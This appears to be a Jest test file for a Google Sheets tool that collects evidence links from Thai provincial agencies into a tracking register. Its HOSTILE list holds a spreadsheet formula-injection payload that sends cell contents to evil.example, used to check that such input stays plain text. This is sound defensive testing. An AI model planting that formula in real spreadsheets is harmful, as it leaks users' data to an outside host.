import { parseFault } from '../../workbench/cloud/faults/grammar';
import { furnish, type Office } from './office';

const [REGISTER, REPORTS] = ['ทะเบียนติดตาม', 'รายงานผล'];
const [LINKS, NOTE, RESULT] = ['ลิงก์ (URL)', 'หมายเหตุ', 'ผลการนำเข้า'];
const SSO = 'สำนักงานประกันสังคมจังหวัดพัทลุง';
const HOSTILE = ['=IMPORTDATA("https://evil.example/"&A1)', '+1-1', "'=1+1", '31/3/2565', '<b>x</b>'];

const duty = (office: Office, key: string) => office.rows(REGISTER).find((row) => row.รหัส === key);
const rowOf = (office: Office, tab: string, item: string, agency?: string) =>
  office.rows(tab).find((row) => row.ข้อ === item && (agency === undefined || row.หน่วยงาน === agency));
const link = (name: string) => `https://sso.phatthalung.example/${name}`;

describe('Phatthalung, where one agency sends a file', () => {
  const TAB = 'แบบกรอก ประกันสังคม';
  let ready: Awaited<ReturnType<typeof furnish>>;
  beforeAll(async () => {
    ready = await furnish('phatthalung-2565', ['menuSetUp', 'menuAssign'], async (office) => {
      await office.choose('menuBlank', { prompts: ['ประกันสังคม'] });
    });
  }, 60_000);
  afterAll(() => ready.remove());

  const fill = (office: Office, item: string, text: string, column = LINKS) =>
    office.type(TAB, office.cell(TAB, column, item), text);

  test('the tab holds the duties of that agency alone, with deadlines as dates and cells that keep text as text', () => {
    const office = ready.open();
    const rows = office.rows(TAB);
    const own = office.rows(REGISTER).filter((row) => row.รหัส?.endsWith('|sso'));
    expect(rows.map((row) => [row.ข้อ, row.กำหนดส่ง])).toEqual(own.map((row) => [row.ข้อ, row.กำหนดส่ง]));
    expect(Object.keys(rows[0] ?? {})).toEqual([
      'ที่',
      'ข้อ',
      'รายการ',
      'สิ่งที่ต้องแสดง',
      'กำหนดส่ง',
      LINKS,
      NOTE,
      RESULT,
    ]);
    const sheet = office.sheet(TAB);
    expect(sheet.texts({ row: 1, column: 0, rows: 1, columns: 3 })).toEqual([['หน่วยงาน', '', SSO]]);
    expect(sheet.numberFormats({ row: sheet.frozenRows, column: 4, rows: 1, columns: 2 })).toEqual([
      ['d mmm "2565"', '@'],
    ]);
  });

  test('what is typed into it is recorded once, and each row says what became of it', async () => {
    const office = ready.open();
    await fill(office, 'O1', `${link('a')} ${link('b')}`);
    await fill(office, 'O2', 'ยังไม่เสร็จ');
    await fill(office, 'O3', 'ขอเวลาอีกสองวัน', NOTE);
    expect((await office.choose('menuCollect')).text).toContain('นำเข้าจากแบบกรอกของหน่วยงาน 2 ข้อ');
    expect(duty(office, 'O1|sso')).toMatchObject({
      สถานะ: 'รอสอบทาน',
      ลิงก์หลักฐาน: `${link('a')}\n${link('b')}`,
    });
    expect(rowOf(office, TAB, 'O1')?.[RESULT]).toMatch(/^บันทึกแล้ว 2 ลิงก์ เมื่อ .* · รอสอบทาน$/);
    expect(rowOf(office, TAB, 'O2')?.[RESULT]).toMatch(/^ไม่พบลิงก์เว็บไซต์ในคำตอบ/);
    const recorded = office.rows(REPORTS);
    expect(recorded.map((row) => [row.แหล่งที่มา, row.ยืนยันแหล่งที่มา])).toEqual(
      recorded.map(() => ['นำเข้า', 'เจ้าหน้าที่รับรอง']),
    );
    await office.choose('menuCollect');
    await office.choose('everyHour');
    await office.choose('everyMorning');
    expect(office.rows(REPORTS)).toEqual(recorded);
  });

  test('made again, it keeps what was typed', async () => {
    const office = ready.open();
    await fill(office, 'O1', link('a'));
    const before = office.rows(TAB);
    const { text } = await office.choose('menuBlank', { prompts: [SSO] });
    expect(text).toContain(`แท็บ "${TAB}" มีข้อครบแล้ว`);
    expect(office.rows(TAB)).toEqual(before);
  });

  test('hostile text stays text in the tab and in the record', async () => {
    const office = ready.open();
    for (const [index, text] of HOSTILE.entries()) await fill(office, `O${index + 1}`, text);
    await office.choose('menuCollect');
    expect(office.rows(REPORTS).map((row) => row.ข้อความเดิม)).toEqual(
      HOSTILE.map((text) => text.replace(/^'/, '')),
    );
    for (const tab of [TAB, REPORTS]) {
      const sheet = office.sheet(tab);
      const block = { row: 0, column: 0, rows: sheet.usedRows, columns: sheet.usedColumns };
      expect(
        sheet
          .formulas(block)
          .flat()
          .filter((formula) => formula !== ''),
      ).toEqual([]);
    }
  });

  test('an hour in which nobody typed reads that tab and no other', async () => {
    const office = ready.open();
    await fill(office, 'O1', link('a'));
    await office.choose('everyHour');
    expect(duty(office, 'O1|sso')?.สถานะ).toBe('รอสอบทาน');
    const { outcome } = await office.choose('everyHour');
    expect(outcome.calls?.byMethod['Range.getValues']).toBe(1);
    expect(outcome.calls?.total).toBeLessThan(40);
  });

  test.each([20, 60, 100, 130, 150, 170])('cut off at call %i, it is recorded once in the end', async (n) => {
    const office = ready.open();
    await fill(office, 'O1', link('a'));
    await fill(office, 'O2', 'ยังไม่เสร็จ');
    office.cloud.arm([parseFault(`kill@${n}`)]);
    await office.choose('menuCollect').catch((error: unknown) => expect(String(error)).toMatch(/kill/i));
    office.cloud.arm([]);
    await office.choose('everyHour');
    expect(duty(office, 'O1|sso')).toMatchObject({ สถานะ: 'รอสอบทาน', ลิงก์หลักฐาน: link('a') });
    expect(office.rows(REPORTS).map((row) => [row.ข้อ, row.ลิงก์, row.ใช้อยู่])).toEqual([
      ['O1', link('a'), 'TRUE'],
      ['O2', '', 'FALSE'],
    ]);
    expect(rowOf(office, TAB, 'O1')?.[RESULT]).toMatch(/^บันทึกแล้ว 1 ลิงก์/);
  });

  test.each([3, 25, 60, 80])('making a tab cut off at call %i is finished by the next time', async (n) => {
    const office = ready.open();
    office.cloud.arm([parseFault(`kill@${n}`)]);
    await office.choose('menuBlank', { prompts: ['คลัง'] }).catch(() => undefined);
    office.cloud.arm([]);
    await office.choose('menuBlank', { prompts: ['คลัง'] });
    const tabs = office.cloud.container.sheets().filter(({ name }) => name.startsWith('แบบกรอก'));
    expect(tabs).toHaveLength(2);
    const [own = ''] = tabs.map(({ name }) => name).filter((name) => name !== TAB);
    expect(office.rows(own).length).toBeGreaterThan(10);
    expect(office.sheet(own).frozenRows).toBe(7);
  });
});

describe('Lamphun, where one tab is for all', () => {
  const TAB = 'แบบกรอก ทุกหน่วยงาน';
  let ready: Awaited<ReturnType<typeof furnish>>;
  let bodies: string[];
  beforeAll(async () => {
    ready = await furnish('lamphun-2566', ['menuSetUp', 'menuAssign'], async (office) => {
      await office.choose('menuBlank', { prompts: ['ทั้งหมด'] });
      bodies = office.rows('หน่วยงาน').map((row) => row.ชื่อหน่วยงาน ?? '');
    });
  }, 60_000);
  afterAll(() => ready.remove());

  /** A tab copied in from a file that an agency sent. */
  const bring = (office: Office, name: string, rows: readonly (readonly string[])[]) =>
    office.script(
      `const rows = ${JSON.stringify(rows)};
       book.insertSheet(${JSON.stringify(name)}).getRange(1, 1, rows.length, rows[0].length).setValues(rows);`,
    );

  test('the tab holds all duties of all bodies, and a pasted column of links is taken', async () => {
    const office = ready.open();
    expect(office.rows(TAB)).toHaveLength(43 * bodies.length);
    const [first = '', second = ''] = bodies;
    const links = Array.from({ length: 43 }, (_one, index) => [`https://a.lamphun.example/${index + 1}`]);
    await office.paste(TAB, `G${office.sheet(TAB).frozenRows + 1}`, links);
    const { text, outcome } = await office.choose('menuCollect');
    expect(text).toContain('นำเข้าจากแบบกรอกของหน่วยงาน 43 ข้อ');
    expect(text).not.toContain('ยังไม่มีแบบฟอร์ม');
    const reported = office.rows(REGISTER).filter((row) => row.สถานะ === 'รอสอบทาน');
    expect(reported.map((row) => row.หน่วยงาน)).toEqual(Array(43).fill(first));
    expect(rowOf(office, TAB, 'O1', second)?.[RESULT]).toBe('');
    expect(outcome.virtualMs).toBeLessThan(60_000);
  });

  test('an address behind words in a file counts like one that is typed', async () => {
    const office = ready.open();
    const [body = ''] = bodies;
    await bring(office, 'Sheet1', [
      ['หน่วยงาน', body],
      ['ข้อ', LINKS],
      ['O1', 'กดที่นี่'],
      ['O2', '=HYPERLINK("http://d.lamphun.example/2","กดที่นี่")'],
      ['O3', 'กำลังทำ'],
    ]);
    await office.script(
      `const text = SpreadsheetApp.newRichTextValue().setText('กดที่นี่').setLinkUrl('http://d.lamphun.example/1').build();
       book.getSheetByName('Sheet1').getRange('B3').setRichTextValue(text);`,
    );
    await office.choose('menuCollect');
    const own = office.rows(REGISTER).filter((row) => row.สถานะ === 'รอสอบทาน');
    expect(own.map((row) => [row.ข้อ, row.ลิงก์หลักฐาน])).toEqual([
      ['O1', 'http://d.lamphun.example/1'],
      ['O2', 'http://d.lamphun.example/2'],
    ]);
    expect(office.rows(REPORTS)[0]?.ข้อความเดิม).toBe('กดที่นี่\nhttp://d.lamphun.example/1');
  });

  test('a tab from a file is known by its headings, in any order, and by the body that its heading names', async () => {
    const office = ready.open();
    const [, body = ''] = bodies;
    const none = ['', '', '', ''];
    await bring(office, 'Sheet1', [
      none,
      ['ชื่อหน่วยงาน :', body, '', ''],
      none,
      ['ลำดับ', 'ลิงก์ (URL)', 'ผู้กรอก', 'ข้อ'],
      ['1', 'http://b.lamphun.example/1', 'x', '๐๑'],
      ['2', 'www.b.lamphun.example/2', 'y', 'ข้อ ๐๒'],
      ['3', 'http://b.lamphun.example/3', 'z', 'O77'],
    ]);
    await bring(office, 'Sheet2', [
      ['ข้อ', 'ลิงก์ (URL)'],
      ['O1', 'http://c.lamphun.example/1'],
    ]);
    const { text } = await office.choose('menuCollect');
    expect(text).toContain('แท็บ "Sheet2": ไม่ทราบว่าเป็นของหน่วยงานใด');
    const own = office.rows(REGISTER).filter((row) => row.สถานะ === 'รอสอบทาน');
    expect(own.map((row) => [row.หน่วยงาน, row.ข้อ, row.ลิงก์หลักฐาน])).toEqual([
      [body, 'O1', 'http://b.lamphun.example/1'],
      [body, 'O2', 'http://www.b.lamphun.example/2'],
    ]);
    const sheet = office.sheet('Sheet1');
    expect(sheet.texts({ row: 3, column: 4, rows: 4, columns: 1 }).flat()).toEqual([
      RESULT,
      expect.stringMatching(/^บันทึกแล้ว 1 ลิงก์/),
      expect.stringMatching(/^บันทึกแล้ว 1 ลิงก์/),
      expect.stringMatching(/^"O77": ไม่มีข้อนี้/),
    ]);
  });
});
